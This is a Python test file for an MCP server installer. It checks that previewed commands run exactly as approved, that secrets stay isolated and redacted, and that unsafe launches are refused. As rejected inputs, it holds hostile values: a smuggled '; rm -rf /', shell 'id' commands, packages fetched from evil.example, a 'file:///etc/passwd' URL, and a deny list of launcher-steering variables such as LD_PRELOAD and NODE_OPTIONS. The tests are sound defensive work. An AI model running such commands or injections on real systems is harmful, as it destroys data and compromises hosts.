"""What runs is exactly what was shown; what fails leaves nothing; a child sees only what it was given."""

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.errors import ToolFault
from app.mcp.config import ServerConfig, variable_key
from app.mcp.installing.installer import PREVIEW_LIFE
from app.mcp.installing.launchers import Unfit, check_environment_name, check_launch, check_text
from app.mcp.installing.listing import Listing, Package, Remote
from app.mcp.installing.recipe import local_name, make_recipe
from tests.fakes.mcp import script, text_of, turn_of
from tests.fakes.registries import World, entry, installing_world, package, variable

ECHO = "io.github.acme/echo"
RUNS = "npx -y @acme/echo@1.2.3"
TOKEN = "s3cret-value-of-the-token"


async def install(world: World, name: str = ECHO) -> str:
    preview = await world.installer.preview(name)
    return (await world.installer.install(preview.name, preview.digest)).name


def written(world: World) -> dict[str, Any]:
    path = world.home / "mcp_servers.json"
    return dict(json.loads(path.read_text("utf-8"))) if path.exists() else {}


async def environment_of(world: World, server: str) -> dict[str, str]:
    result = await world.manager.call(server, "environment", {}, turn_of())
    return dict(json.loads(text_of(result)))


async def test_a_preview_shows_what_would_run_and_runs_nothing(tmp_path: Path) -> None:
    wants = package(
        packageArguments=[{"type": "named", "name": "--level", "value": "7"}],
        environmentVariables=[variable("ACME_TOKEN", description="from acme.example/keys")],
    )
    async with installing_world(tmp_path, entry(packages=[wants])) as world:
        facts = (await world.installer.preview(ECHO)).facts()
        assert world.runs == []
        assert world.manager.list_servers() == ()
    assert facts == {
        "name": "echo",
        "server": ECHO,
        "source": "official MCP registry",
        "publisher": "github.com/acme",
        "version": "1.2.3",
        "transport": "stdio",
        "runs": f"{RUNS} --level 7",
        "environment": ["ACME_TOKEN=${MCP_ECHO__ACME_TOKEN}"],
        "needs": ["ACME_TOKEN (secret)"],
        "preview": facts["preview"],
    }


async def test_an_approved_preview_runs_as_shown_is_kept_and_can_be_undone(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        assert await install(world) == "echo"
        assert world.runs == [RUNS]
        assert "mcp_echo_echo" in {tool.name for tool in world.manager.list_tools()}
        kept = written(world)["servers"]["echo"]
        assert (kept["command"], kept["args"]) == ("npx", ["-y", "@acme/echo@1.2.3"])
        assert kept["origin"]["server"] == ECHO
        assert await world.servers.undo() == "echo"
        assert world.manager.list_tools() == ()
        assert written(world) == {"servers": {}}
        with pytest.raises(ToolFault, match="No server was installed"):
            await world.servers.undo()


async def test_what_was_not_previewed_is_not_run(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        with pytest.raises(ToolFault, match="not previewed"):
            await world.installer.install("echo", "")
        assert world.runs == []


async def test_another_hash_than_that_of_the_preview_runs_nothing(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        approved = await world.installer.preview(ECHO)
        world.registries.entries[:] = [entry(packages=[package(version="6.6.6")])]
        changed = await world.installer.preview(ECHO)
        assert changed.digest != approved.digest
        with pytest.raises(ToolFault, match="not what was approved"):
            await world.installer.install("echo", approved.digest)
        assert world.runs == []
        await world.installer.install("echo", changed.digest)
        assert world.runs == ["npx -y @acme/echo@6.6.6"]


async def test_the_hash_covers_publisher_arguments_and_environment(tmp_path: Path) -> None:
    others = [
        entry(packages=[package(packageArguments=[{"type": "positional", "value": "--evil"}])]),
        entry(packages=[package(environmentVariables=[{"name": "MODE", "value": "evil"}])]),
        entry("io.github.evil/echo"),
        entry(packages=[package(identifier="@evil/echo")]),
        entry(packages=[package("pypi", "acme-echo")]),
    ]
    async with installing_world(tmp_path, entry()) as world:
        digests = {(await world.installer.preview(ECHO)).digest}
        for other in others:
            world.registries.entries[:] = [other]
            digests.add((await world.installer.preview(other["server"]["name"])).digest)
    assert len(digests) == 1 + len(others)


async def test_a_preview_does_not_count_for_ever(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        preview = await world.installer.preview(ECHO)
        await world.clock.advance(PREVIEW_LIFE.total_seconds() + 1)
        with pytest.raises(ToolFault, match="not previewed"):
            await world.installer.install("echo", preview.digest)
        assert world.runs == []


async def test_missing_variables_are_asked_for_by_name_and_then_given_to_this_server_alone(tmp_path: Path) -> None:
    wants = package(environmentVariables=[variable("TOKEN"), {"name": "REGION", "isRequired": False}])
    also_wants = package(identifier="@evil/thief", environmentVariables=[variable("TOKEN")])
    listed = (entry(packages=[wants]), entry("io.github.evil/thief", packages=[also_wants]))
    ours = {"WHATSAPP_ACCESS_TOKEN": "never", "NODE_OPTIONS": "--require evil"}
    async with installing_world(tmp_path, *listed, environ=ours) as world:
        preview = await world.installer.preview(ECHO)
        with pytest.raises(ToolFault, match="/mcp set TOKEN VALUE"):
            await world.installer.install("echo", preview.digest)
        assert world.runs == []
        kept = await world.installer.set_variable("token", TOKEN)
        assert (kept.server, kept.is_seen) == ("echo", True)
        await install(world)
        seen = await environment_of(world, "echo")
        assert seen["TOKEN"] == TOKEN
        assert set(seen) - {"PWD", "SHLVL", "_", "OLDPWD"} == {"PATH", "HOME", "TMPDIR", "LANG", "TOKEN"}
        assert TOKEN not in (tmp_path / "mcp_servers.json").read_text("utf-8")
        thief = await world.installer.preview("io.github.evil/thief")
        assert [one.name for one in world.installer.missing(thief)] == ["TOKEN"]
        await world.servers.remove("echo")
        assert world.secrets.names() == ()


async def test_an_optional_variable_that_is_given_makes_it_another_preview(tmp_path: Path) -> None:
    wants = package(environmentVariables=[{"name": "REGION"}])
    async with installing_world(tmp_path, entry(packages=[wants])) as world:
        before = await world.installer.preview(ECHO)
        assert "environment" not in before.facts()
        await world.installer.set_variable("REGION", "north")
        with pytest.raises(ToolFault, match="not what was approved"):
            await world.installer.install("echo", before.digest)
        await world.installer.install("echo", world.installer.pending("echo").digest)
        assert (await environment_of(world, "echo"))["REGION"] == "north"


async def test_a_changed_variable_reaches_a_server_that_runs(tmp_path: Path) -> None:
    wants = package(environmentVariables=[variable("TOKEN")])
    async with installing_world(tmp_path, entry(packages=[wants])) as world:
        await world.installer.preview(ECHO)
        await world.installer.set_variable("TOKEN", "old-value")
        await install(world)
        restarted = asyncio.create_task(world.states.next("echo", "ready"))
        await world.installer.set_variable("TOKEN", TOKEN)
        await restarted
        assert (await environment_of(world, "echo"))["TOKEN"] == TOKEN


async def test_a_variable_that_nobody_or_more_than_one_asks_for_is_not_kept(tmp_path: Path) -> None:
    wants = package(environmentVariables=[variable("TOKEN")])
    listed = (entry(packages=[wants]), entry("io.github.acme/other", packages=[wants]))
    async with installing_world(tmp_path, *listed) as world:
        with pytest.raises(ToolFault, match="No server asks"):
            await world.installer.set_variable("TOKEN", TOKEN)
        await world.installer.preview(ECHO)
        await world.installer.preview("io.github.acme/other")
        with pytest.raises(ToolFault, match="Several servers"):
            await world.installer.set_variable("TOKEN", TOKEN)
        with pytest.raises(ToolFault) as caught:
            await world.installer.set_variable("TOKEN", f"{TOKEN}\nmore", "other")
        assert TOKEN not in caught.value.detail
        assert world.secrets.names() == ()
        assert (await world.installer.set_variable("TOKEN", TOKEN, "other")).server == "other"
        assert world.secrets.names() == ("MCP_OTHER__TOKEN",)


async def test_a_server_that_does_not_start_leaves_nothing_and_says_why_without_secrets(tmp_path: Path) -> None:
    wants = package(environmentVariables=[variable("TOKEN")])
    complaint = f"bad credentials {TOKEN} in {Path.home()}/x"
    async with installing_world(tmp_path, entry(packages=[wants]), dies_saying=complaint) as world:
        preview = await world.installer.preview(ECHO)
        await world.installer.set_variable("TOKEN", TOKEN)
        with pytest.raises(ToolFault, match="did not start") as caught:
            await world.installer.install("echo", preview.digest)
        assert "bad credentials [secret]" in caught.value.detail
        assert TOKEN not in caught.value.detail
        assert str(Path.home()) not in caught.value.detail
        assert world.manager.list_servers() == ()
        assert written(world) == {}


async def test_giving_up_in_the_middle_leaves_no_process_and_no_entry(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        (tmp_path / "bin" / "npx").write_text("#!/bin/sh\nexec sleep 60\n", "utf-8")
        preview = await world.installer.preview(ECHO)
        started = asyncio.create_task(world.states.next("echo", "connecting"))
        task = asyncio.create_task(world.installer.install("echo", preview.digest))
        await started
        with pytest.raises(ToolFault, match="being changed"):
            await world.servers.remove("echo")
        task.cancel()
        await asyncio.wait({task})
        assert task.cancelled()
        assert world.manager.list_servers() == ()
        assert written(world) == {}


async def test_the_file_keeps_the_form_and_the_servers_that_it_had(tmp_path: Path) -> None:
    mine = {"command": "mine", "custom": True, "env": {"A": "${env:A}"}}
    before = {"theme": "dark", "mcpServers": {"mine": mine}}
    (tmp_path / "mcp_servers.json").write_text(json.dumps(before), "utf-8")
    async with installing_world(tmp_path, entry()) as world:
        await install(world)
        after = written(world)
        assert list(after["mcpServers"]) == ["mine", "echo"]
        await world.servers.undo()
        assert written(world) == before


async def test_a_damaged_file_stops_the_installation_and_is_left_as_it_is(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        preview = await world.installer.preview(ECHO)
        (tmp_path / "mcp_servers.json").write_text("{ mine", "utf-8")
        with pytest.raises(ToolFault, match="not JSON"):
            await world.installer.install("echo", preview.digest)
        assert (tmp_path / "mcp_servers.json").read_text("utf-8") == "{ mine"
        assert world.runs == []


async def test_a_name_that_is_taken_or_too_much_alike_is_refused(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry("io.github.acme/my-echo")) as world:
        await world.manager.hot_add_server("my_echo", script())
        with pytest.raises(ToolFault, match="too much alike"):
            await world.installer.preview("io.github.acme/my-echo")
        with pytest.raises(ToolFault, match="too much alike"):
            await world.installer.install_from_command("my-echo", "uvx", ["acme-echo==1.0"])
        assert world.runs == []
        assert [info.name for info in world.manager.list_servers()] == ["my_echo"]


async def test_a_server_that_was_just_found_is_known_by_its_last_part(tmp_path: Path) -> None:
    async with installing_world(tmp_path, entry()) as world:
        with pytest.raises(ToolFault, match="No registry lists echo"):
            await world.installer.preview("echo")
        await world.installer.search("echo")
        assert (await world.installer.preview("echo")).listing.name == ECHO


async def test_silent_registries_are_told_apart_from_an_unlisted_server(tmp_path: Path) -> None:
    async with installing_world(tmp_path) as world:
        with pytest.raises(ToolFault, match="No registry lists"):
            await world.installer.preview(ECHO)
        world.registries.official_status = 503
        world.registries.smithery = [{"qualifiedName": ECHO}]
        world.registries.smithery_status = 429
        with pytest.raises(ToolFault, match="do not answer"):
            await world.installer.preview(ECHO)


@pytest.mark.parametrize(
    "url", ["https://inside.example/mcp", "http://127.0.0.1:8000/mcp", "https://u:p@x.example/"]
)
async def test_a_server_elsewhere_must_be_on_the_public_internet(tmp_path: Path, url: str) -> None:
    remote = {"type": "streamable-http", "url": url}
    async with installing_world(tmp_path, entry(remotes=[remote])) as world:
        with pytest.raises(ToolFault):
            await world.installer.preview(ECHO)
        with pytest.raises(ToolFault, match="not previewed"):
            world.installer.pending("echo")


async def test_what_an_admin_types_runs_within_the_same_limits(tmp_path: Path) -> None:
    async with installing_world(tmp_path) as world:
        for command, args in (("bash", ["-c", "id"]), ("npx", ["-y", "echo"]), ("/bin/npx", ["-y", "a@1.0.0"])):
            with pytest.raises(ToolFault, match="cannot be run"):
                await world.installer.install_from_command("mine", command, args)
        with pytest.raises(ToolFault, match="/mcp set KEY VALUE"):
            await world.installer.install_from_command("mine", "uvx", ["acme-echo==1.0"], ["KEY"])
        assert world.runs == []
        await world.installer.set_variable("KEY", TOKEN)
        info = await world.installer.install_from_command("mine", "uvx", ["acme-echo==1.0", "a b"], ["KEY"])
        assert info.state == "ready"
        assert world.runs == ["uvx acme-echo==1.0 a b"]
        assert (await environment_of(world, "mine"))["KEY"] == TOKEN


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ["-y", "@scope/name@1.2.3-beta.1", "--anything", "; rm -rf /"]),
        ("npx", ["--yes", "name@0.0.1"]),
        ("uvx", ["name==2025.8.4"]),
        ("uvx", ["name@1.0"]),
        ("uvx", ["--from", "name==1.0", "other-command", "--flag"]),
    ],
)
def test_an_exact_version_of_one_package_may_be_run(command: str, args: list[str]) -> None:
    _, version = check_launch(command, args)
    assert version in " ".join(args)


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("sh", ["-c", "id"]),
        ("docker", ["run", "x"]),
        ("/usr/bin/npx", ["-y", "name@1.2.3"]),
        ("npx", []),
        ("npx", ["-y"]),
        ("npx", ["name@1.2.3"]),
        ("npx", ["-y", "name"]),
        ("npx", ["-y", "name@latest"]),
        ("npx", ["-y", "name@^1.2.3"]),
        ("npx", ["-y", "name@1"]),
        ("npx", ["-y", "--package", "x@1.2.3", "-c", "id"]),
        ("npx", ["-c", "id"]),
        ("npx", ["-y", "https://evil.example/x.tgz"]),
        ("npx", ["-y", "git+https://evil.example/x@1.2.3"]),
        ("npx", ["-y", "../x@1.2.3"]),
        ("npx", ["-y", "@@1.2.3"]),
        ("npx", ["-y", "name@1.2.3\nid"]),
        ("uvx", []),
        ("uvx", ["name"]),
        ("uvx", ["name==1.*"]),
        ("uvx", ["name>=1.0"]),
        ("uvx", ["name@latest"]),
        ("uvx", ["--index-url", "https://evil.example", "name==1.0"]),
        ("uvx", ["--with", "evil", "name==1.0"]),
        ("uvx", ["--from", "git+https://evil.example/x", "x"]),
        ("uvx", ["--from", "name==1.0"]),
        ("uvx", ["--from", "name==1.0", "--python"]),
        ("uvx", ["--from", "name", "name"]),
        ("uvx", ["name==1.0", "a\0b"]),
        ("uvx", ["name==1.0", *["x"] * 60]),
    ],
)
def test_nothing_else_may_be_run(command: str, args: list[str]) -> None:
    with pytest.raises(Unfit):
        check_launch(command, args)


@given(st.lists(st.text(max_size=20), max_size=5), st.sampled_from(["npx", "uvx"]))
def test_whatever_is_let_through_names_one_package_and_one_version(args: list[str], command: str) -> None:
    try:
        name, version = check_launch(command, args)
    except Unfit:
        return
    assert name
    assert version[0].isdigit()


@pytest.mark.parametrize(
    "name",
    [
        "PATH",
        "LD_PRELOAD",
        "NODE_OPTIONS",
        "PYTHONPATH",
        "npm_config_registry",
        "UV_INDEX_URL",
        "1A",
        "A-B",
        "OPENSSL_CONF",
        "GLIBC_TUNABLES",
    ],
)
def test_a_server_may_not_steer_what_launches_it(name: str) -> None:
    with pytest.raises(Unfit):
        check_environment_name(name)


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "NODE_ENV", "HOME_ASSISTANT_URL", "PATHS"])
def test_ordinary_variables_may_be_given(name: str) -> None:
    assert check_environment_name(name) == name


@pytest.mark.parametrize("text", ["${MCP_OTHER__TOKEN}", "${env:WHATSAPP_ACCESS_TOKEN}", "a\nb", "x" * 2001])
def test_what_a_registry_writes_cannot_refer_to_secrets(text: str) -> None:
    with pytest.raises(Unfit):
        check_text(text)


def recipe_of(*ways: dict[str, Any], given: tuple[str, ...] = ()) -> ServerConfig:
    packages = tuple(Package.model_validate(one) for one in ways if "identifier" in one)
    remotes = tuple(Remote.model_validate(one) for one in ways if "url" in one)
    listing = Listing(ECHO, "official", "acme", packages=packages, remotes=remotes)
    return make_recipe(listing, "echo", given.__contains__).config


def test_arguments_are_filled_in_one_word_each() -> None:
    config = recipe_of(
        package(
            packageArguments=[
                {"type": "positional", "valueHint": "folder", "isRequired": True},
                {
                    "type": "named",
                    "name": "--key",
                    "value": "Bearer {key}",
                    "variables": {"key": {"isRequired": True}},
                },
                {"type": "named", "name": "--port", "default": "80"},
                {"type": "named", "name": "--quiet", "value": ""},
                {"type": "named", "name": "--rare"},
            ]
        )
    )
    assert config.args[2:] == (
        "${MCP_ECHO__folder}",
        "--key",
        "Bearer ${MCP_ECHO__key}",
        "--port",
        "80",
        "--quiet",
    )


def test_a_package_comes_before_what_runs_elsewhere_and_streaming_before_sse() -> None:
    sse = {"type": "sse", "url": "https://x.example/sse"}
    http = {
        "type": "streamable-http",
        "url": "https://x.example/{tenant}/mcp",
        "variables": {"tenant": {"description": "yours"}},
        "headers": [
            {
                "name": "Authorization",
                "value": "Bearer {token}",
                "isSecret": True,
                "isRequired": True,
                "variables": {"token": {}},
            }
        ],
    }
    assert recipe_of(sse, http, package("oci"), package("pypi", "acme-echo")).command == "uvx"
    remote = recipe_of(sse, http, package("oci"))
    assert (remote.transport, remote.url) == ("http", "https://x.example/${MCP_ECHO__tenant}/mcp")
    assert remote.headers == {"Authorization": "Bearer ${MCP_ECHO__token}"}
    assert recipe_of(sse).transport == "sse"


@pytest.mark.parametrize(
    "way",
    [
        package("oci", "docker.io/acme/echo"),
        package(version="latest"),
        package(version=""),
        package(identifier="--package=evil"),
        package(registryBaseUrl="https://evil.example"),
        package(runtimeArguments=[{"type": "named", "name": "--registry", "value": "https://evil.example"}]),
        package(transport={"type": "streamable-http", "url": "http://localhost:3000/mcp"}),
        package(environmentVariables=[{"name": "NODE_OPTIONS", "value": "--require /tmp/x"}]),
        package(packageArguments=[{"type": "positional", "value": "${env:WHATSAPP_ACCESS_TOKEN}"}]),
        package(environmentVariables=[{"name": "X", "value": "${MCP_OTHER__TOKEN}"}]),
        package(environmentVariables=[{"name": "X", "default": "${MCP_OTHER__TOKEN}"}]),
        {"type": "streamable-http", "url": "https://{host}/mcp", "variables": {"host": {}}},
        {"type": "streamable-http", "url": "https://x.example/{unknown}"},
        {"type": "streamable-http", "url": "file:///etc/passwd"},
        {"type": "sse", "url": "https://x.example/", "headers": [{"name": "Host", "value": "inside"}]},
        {"type": "sse", "url": "https://x.example/", "headers": [{"name": "A:b", "value": "c"}]},
    ],
)
def test_a_way_that_cannot_be_held_to_what_it_says_is_not_taken(way: dict[str, Any]) -> None:
    with pytest.raises(Unfit) as caught:
        recipe_of(way)
    assert "\n" not in str(caught.value)


@given(st.text(max_size=80))
def test_every_listed_name_gives_a_usable_name_and_key(name: str) -> None:
    local = local_name(name)
    assert local.replace("-", "").isalnum()
    assert local.isascii()
    assert variable_key(local, name).replace("_", "").isalnum()
